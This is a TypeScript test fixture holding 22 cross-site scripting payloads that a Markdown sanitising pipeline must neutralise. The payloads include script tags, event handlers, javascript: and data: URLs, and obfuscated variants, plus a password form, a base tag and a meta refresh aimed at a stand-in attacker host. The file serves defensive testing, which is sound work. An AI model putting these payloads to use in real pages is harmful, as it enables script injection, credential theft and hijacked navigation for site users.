/**
 * Known cross-site scripting payloads as an author could write them in Markdown: raw HTML,
 * attribute tricks, URL schemes and Markdown links. Each must come out of the pipeline dead.
 */
export const XSS_PAYLOADS = [
  '<script>alert("mp-xss-1")</script>',
  '<img src="x" onerror="alert(\'mp-xss-2\')">',
  '<a href="javascript:alert(\'mp-xss-3\')">click</a>',
  '<a href="JaVaScRiPt:alert(\'mp-xss-4\')">click</a>',
  '<a href="java\tscript:alert(\'mp-xss-5\')">click</a>',
  '<iframe src="https://example.com/mp-xss-6"></iframe>',
  '<object data="mp-xss-7.swf"></object>',
  '<embed src="mp-xss-8.swf">',
  '<style>body { display: none } /* mp-xss-9 */</style>',
  '<div onclick="alert(\'mp-xss-10\')">click</div>',
  '<svg onload="alert(\'mp-xss-11\')"><circle r="1"/></svg>',
  '<details open ontoggle="alert(\'mp-xss-12\')"><summary>x</summary></details>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnbXAteHNzLTEzJyk8L3NjcmlwdD4=">data</a>',
  '[link](javascript:alert(\'mp-xss-14\'))',
  '<math><mtext><script>alert("mp-xss-15")</script></mtext></math>',
  '<p style="position:fixed;inset:0;background:url(mp-xss-16)">overlay</p>',
  '<form action="https://evil.example/mp-xss-17"><input name="password"></form>',
  '<base href="https://evil.example/mp-xss-18/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/mp-xss-19">',
  '<img src="x" oNeRrOr=alert(\'mp-xss-20\')>',
  '<!--<img src=x onerror=alert("mp-xss-21")>-->',
  '<table><tr><td background="javascript:alert(\'mp-xss-22\')">cell</td></tr></table>',
] as const;
